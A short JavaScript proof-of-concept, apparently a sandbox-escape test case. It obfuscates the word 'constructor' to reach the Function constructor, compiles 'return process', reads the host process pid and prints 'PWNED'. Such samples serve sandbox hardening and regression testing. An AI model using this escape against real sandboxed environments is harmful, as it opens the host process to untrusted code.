'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
Promise.allSettled([t]).then(([r]) => { const o = Date.now() > 1 ? r.value : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
